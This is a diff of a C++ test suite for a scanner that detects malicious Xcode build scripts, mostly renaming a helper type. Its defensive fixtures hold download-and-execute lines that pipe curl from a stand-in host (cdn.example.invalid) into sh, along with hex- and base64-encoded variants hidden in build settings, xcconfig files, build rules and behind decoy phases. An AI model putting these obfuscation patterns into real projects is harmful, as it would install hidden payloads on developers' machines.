@@ -17,7 +17,7 @@ namespace {
 
 using core::Finding;
 using core::Severity;
-using testing::ProjectSpec;
+using testing::ProjectLayout;
 
 // Synthetic payloads: every address is under example.invalid, and nothing is ever run.
 const std::string kStage = "echo \"$(curl -fskL -d p=xcode https://cdn.example.invalid/a)\" | sh";
@@ -69,10 +69,10 @@ struct Files {
     std::map<std::string, std::string> files;
 };
 
-// One project folder: the project file from `spec` (when it has anything) plus `extra` files.
+// One project folder: the project file from `layout` (when it has anything) plus `extra` files.
 struct Case {
     const char* name;
-    std::function<ProjectSpec()> project;
+    std::function<ProjectLayout()> project;
     std::map<std::string, std::string> extra;
     const char* rule;  // a rule that must fire at high or critical; null for benign cases
 };
@@ -90,11 +90,11 @@ BuildScriptReport scanCase(const Case& c) {
     return BuildScriptScanner().scan(tree.url(), files);
 }
 
-std::function<ProjectSpec()> phase(std::string script, std::string name = "Run Script") {
+std::function<ProjectLayout()> phase(std::string script, std::string name = "Run Script") {
     return [script, name] {
-        ProjectSpec spec;
-        spec.phases.push_back({name, script});
-        return spec;
+        ProjectLayout layout;
+        layout.phases.push_back({name, script});
+        return layout;
     };
 }
 
@@ -194,48 +194,48 @@ INSTANTIATE_TEST_SUITE_P(
              "downloaded-content-executed"},
         Case{"SettingRunByAPhase",
              [] {
-                 ProjectSpec spec;
-                 spec.phases.push_back({"Run Script", "sh -c \"${QXZ}\""});
-                 spec.settings = {{"QXZ", "echo " + kHexStage + " | xxd -p -r | sh"}};
-                 return spec;
+                 ProjectLayout layout;
+                 layout.phases.push_back({"Run Script", "sh -c \"${QXZ}\""});
+                 layout.settings = {{"QXZ", "echo " + kHexStage + " | xxd -p -r | sh"}};
+                 return layout;
              },
              {},
              "build-setting-executed"},
         Case{"SettingOnlyInRelease",
              [] {
-                 ProjectSpec spec;
-                 spec.phases.push_back({"Run Script", "/bin/sh -c \"${KZP}\""});
-                 spec.settings = {{"KZP", ""}};
-                 spec.releaseSettings = {{"KZP", "echo " + b64(kStage) + " | base64 -D | sh"}};
-                 return spec;
+                 ProjectLayout layout;
+                 layout.phases.push_back({"Run Script", "/bin/sh -c \"${KZP}\""});
+                 layout.settings = {{"KZP", ""}};
+                 layout.releaseSettings = {{"KZP", "echo " + b64(kStage) + " | base64 -D | sh"}};
+                 return layout;
              },
              {},
              "decoded-data-executed"},
         Case{"SettingFromAnXcconfig",
              [] {
-                 ProjectSpec spec;
-                 spec.phases.push_back({"Run Script", "eval \"$WQP\""});
-                 spec.baseConfiguration = "Config/Base.xcconfig";
-                 return spec;
+                 ProjectLayout layout;
+                 layout.phases.push_back({"Run Script", "eval \"$WQP\""});
+                 layout.baseConfiguration = "Config/Base.xcconfig";
+                 return layout;
              },
              {{"Config/Base.xcconfig", "#include \"Shared.xcconfig\"\nSWIFT_VERSION = 5.0\n"},
               {"Config/Shared.xcconfig", "WQP = echo " + kHexStage + " | xxd -r -p | sh\n"}},
              "build-setting-executed"},
         Case{"LegacyTargetRunsASetting",
              [] {
-                 ProjectSpec spec;
-                 spec.legacyTool = "/bin/sh";
-                 spec.legacyArguments = "-c \"${XQJ}\"";
-                 spec.settings = {{"XQJ", "echo " + b64(kStage) + " | base64 -D | sh"}};
-                 return spec;
+                 ProjectLayout layout;
+                 layout.legacyTool = "/bin/sh";
+                 layout.legacyArguments = "-c \"${XQJ}\"";
+                 layout.settings = {{"XQJ", "echo " + b64(kStage) + " | base64 -D | sh"}};
+                 return layout;
              },
              {},
              "build-setting-executed"},
         Case{"BuildRuleForTextFiles",
              [] {
-                 ProjectSpec spec;
-                 spec.rules.push_back({"*.txt", "echo " + kHexStage + " | xxd -p -r | sh"});
-                 return spec;
+                 ProjectLayout layout;
+                 layout.rules.push_back({"*.txt", "echo " + kHexStage + " | xxd -p -r | sh"});
+                 return layout;
              },
              {{"App/empty.txt", ""}},
              "decoded-data-executed"},
@@ -257,11 +257,11 @@ INSTANTIATE_TEST_SUITE_P(
              "downloaded-content-executed"},
         Case{"PayloadDecodedInOnePhaseRunInAnother",
              [] {
-                 ProjectSpec spec;
-                 spec.phases.push_back(
+                 ProjectLayout layout;
+                 layout.phases.push_back(
                      {"Prepare", "echo " + b64(kStage) + " | base64 -D > \"$TMPDIR/.prep.sh\""});
-                 spec.phases.push_back({"Run Script", "sh \"$TMPDIR/.prep.sh\""});
-                 return spec;
+                 layout.phases.push_back({"Run Script", "sh \"$TMPDIR/.prep.sh\""});
+                 return layout;
              },
              {},
              "decoded-payload-written"},
@@ -366,25 +366,25 @@ INSTANTIATE_TEST_SUITE_P(
                  for (int i = 0; i < 12; ++i) {
                      script = "echo " + b64(script) + " | base64 -D | sh";
                  }
-                 ProjectSpec spec;
-                 spec.phases.push_back({"Run Script", script});
-                 return spec;
+                 ProjectLayout layout;
+                 layout.phases.push_back({"Run Script", script});
+                 return layout;
              },
              {},
              "analysis-budget-exhausted"},
         Case{"DecoyInFrontOfTheInjection",
              [] {
-                 ProjectSpec spec;
+                 ProjectLayout layout;
                  // The decoy doubles a variable until the analysis's budget for it runs out.
                  std::string decoy = "a=xxxxxxxxxxxxxxxx";
                  for (int i = 0; i < 64; ++i) {
                      decoy += "; a=$a$a";
                  }
                  for (int i = 0; i < 40; ++i) {
-                     spec.phases.push_back({"Decoy " + std::to_string(i), decoy});
+                     layout.phases.push_back({"Decoy " + std::to_string(i), decoy});
                  }
-                 spec.phases.push_back({"Run Script", "echo " + kHexStage + " | xxd -p -r | sh"});
-                 return spec;
+                 layout.phases.push_back({"Run Script", "echo " + kHexStage + " | xxd -p -r | sh"});
+                 return layout;
              },
              {},
              "decoded-data-executed"}),
@@ -456,8 +456,8 @@ INSTANTIATE_TEST_SUITE_P(
              nullptr},
         Case{"SwiftFormatSwiftGenRSwiftSourcery",
              [] {
-                 ProjectSpec spec;
-                 spec.phases = {
+                 ProjectLayout layout;
+                 layout.phases = {
                      {"SwiftFormat",
                       "\"${PODS_ROOT}/SwiftFormat/CommandLineTool/swiftformat\" \"$SRCROOT\""},
                      {"SwiftGen",
@@ -469,14 +469,14 @@ INSTANTIATE_TEST_SUITE_P(
                      {"Sourcery",
                       "mint run krzysztofzablocki/Sourcery sourcery --config "
                       "\"${SRCROOT}/.sourcery.yml\""}};
-                 return spec;
+                 return layout;
              },
              {},
              nullptr},
         Case{"CrashlyticsAndSentryUploads",
              [] {
-                 ProjectSpec spec;
-                 spec.phases = {
+                 ProjectLayout layout;
+                 layout.phases = {
                      {"Crashlytics",
                       "\"${BUILD_DIR%/Build/*}/SourcePackages/checkouts/firebase-ios-sdk/"
                       "Crashlytics/run\""},
@@ -490,7 +490,7 @@ INSTANTIATE_TEST_SUITE_P(
                       "then\n  ERROR=$(sentry-cli debug-files upload --include-sources "
                       "\"$DWARF_DSYM_FOLDER_PATH\" 2>&1 >/dev/null)\n  if [ ! $? -eq 0 ]; then\n   "
                       " echo \"warning: sentry-cli - $ERROR\"\n  fi\nfi\n"}};
-                 return spec;
+                 return layout;
              },
              {},
              nullptr},
@@ -524,13 +524,13 @@ INSTANTIATE_TEST_SUITE_P(
             nullptr},
         Case{"CarthageAndBuildNumbers",
              [] {
-                 ProjectSpec spec;
-                 spec.phases = {{"Carthage", "/usr/local/bin/carthage copy-frameworks"},
-                                {"Build Number",
-                                 "buildNumber=$(git rev-list HEAD "
-                                 "--count)\n/usr/libexec/PlistBuddy -c \"Set :CFBundleVersion "
-                                 "$buildNumber\" \"${TARGET_BUILD_DIR}/${INFOPLIST_PATH}\"\n"}};
-                 return spec;
+                 ProjectLayout layout;
+                 layout.phases = {{"Carthage", "/usr/local/bin/carthage copy-frameworks"},
+                                  {"Build Number",
+                                   "buildNumber=$(git rev-list HEAD "
+                                   "--count)\n/usr/libexec/PlistBuddy -c \"Set :CFBundleVersion "
+                                   "$buildNumber\" \"${TARGET_BUILD_DIR}/${INFOPLIST_PATH}\"\n"}};
+                 return layout;
              },
              {},
              nullptr},
@@ -555,30 +555,30 @@ INSTANTIATE_TEST_SUITE_P(
              nullptr},
         Case{"LegacyTargetRunsMake",
              [] {
-                 ProjectSpec spec;
-                 spec.legacyTool = "/usr/bin/make";
-                 spec.legacyArguments = "$(ACTION)";
-                 return spec;
+                 ProjectLayout layout;
+                 layout.legacyTool = "/usr/bin/make";
+                 layout.legacyArguments = "$(ACTION)";
+                 return layout;
              },
              {},
              nullptr},
         Case{"LegacyTargetRunsAReleaseScript",
              [] {
-                 ProjectSpec spec;
-                 spec.legacyTool = "/bin/bash";
-                 spec.legacyArguments = "Scripts/release.sh $(CONFIGURATION)";
-                 return spec;
+                 ProjectLayout layout;
+                 layout.legacyTool = "/bin/bash";
+                 layout.legacyArguments = "Scripts/release.sh $(CONFIGURATION)";
+                 return layout;
              },
              {{"Scripts/release.sh",
                "#!/bin/bash\nset -euo pipefail\nxcodebuild -scheme App archive\n"}},
              nullptr},
         Case{"BuildRuleRunsProtoc",
              [] {
-                 ProjectSpec spec;
-                 spec.rules.push_back({"*.proto",
-                                       "protoc --proto_path=\"$INPUT_FILE_DIR\" "
-                                       "--swift_out=\"$DERIVED_FILE_DIR\" \"$INPUT_FILE_PATH\""});
-                 return spec;
+                 ProjectLayout layout;
+                 layout.rules.push_back({"*.proto",
+                                         "protoc --proto_path=\"$INPUT_FILE_DIR\" "
+                                         "--swift_out=\"$DERIVED_FILE_DIR\" \"$INPUT_FILE_PATH\""});
+                 return layout;
              },
              {},
              nullptr},
@@ -589,17 +589,17 @@ INSTANTIATE_TEST_SUITE_P(
              nullptr},
         Case{"SettingsHoldingKeysAndCertificates",
              [] {
-                 ProjectSpec spec;
+                 ProjectLayout layout;
                  std::string certificate;
                  for (int i = 0; i < 600; ++i) {
                      certificate.push_back(static_cast<char>((i * 37 + 11) % 256));
                  }
-                 spec.settings = {
+                 layout.settings = {
                      {"SIGNING_CERTIFICATE", b64(certificate)},
                      {"API_KEY",
                       "3f9a7c2e5b1d4a8f9e0c7b6a5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c"}};
-                 spec.phases.push_back({"Run Script", "echo \"Building $PRODUCT_NAME\""});
-                 return spec;
+                 layout.phases.push_back({"Run Script", "echo \"Building $PRODUCT_NAME\""});
+                 return layout;
              },
              {},
              nullptr},
@@ -686,9 +686,9 @@ TEST(BuildScripts, FindingCarriesLocationLayersRemedyAndFingerprint) {
 TEST(BuildScripts, FingerprintsSurviveMovesAndLinesAboveButNotAnEditedPayload) {
     auto fingerprints = [](const std::string& script, const std::string& padding) {
         testing::TempTree tree;
-        ProjectSpec spec;
-        spec.phases.push_back({"Run Script", script});
-        tree.write("App.xcodeproj/project.pbxproj", padding + testing::projectText(spec));
+        ProjectLayout layout;
+        layout.phases.push_back({"Run Script", script});
+        tree.write("App.xcodeproj/project.pbxproj", padding + testing::projectText(layout));
         const auto files = core::FileDiscovery().discoverFiles(
             tree.url(), core::buildScriptsDiscoveryConfiguration());
         std::vector<std::string> out;
@@ -717,15 +717,16 @@ TEST(BuildScripts, UnreadableAndOversizedFilesBecomeDiagnostics) {
 }
 
 TEST(BuildScripts, UnreferencedEncodedSettingIsReportedAtMedium) {
-    const auto report = scanCase(
-        {"x",
-         [] {
-             ProjectSpec spec;
-             spec.settings = {{"ZKQW", b64("curl -fsSL https://cdn.example.invalid/stage/a | sh")}};
-             return spec;
-         },
-         {},
-         nullptr});
+    const auto report =
+        scanCase({"x",
+                  [] {
+                      ProjectLayout layout;
+                      layout.settings = {
+                          {"ZKQW", b64("curl -fsSL https://cdn.example.invalid/stage/a | sh")}};
+                      return layout;
+                  },
+                  {},
+                  nullptr});
     ASSERT_EQ(report.findings.size(), 1u) << describe(report);
     EXPECT_EQ(report.findings[0].ruleId, "encoded-setting-unreferenced");
     EXPECT_EQ(report.findings[0].severity, Severity::medium);
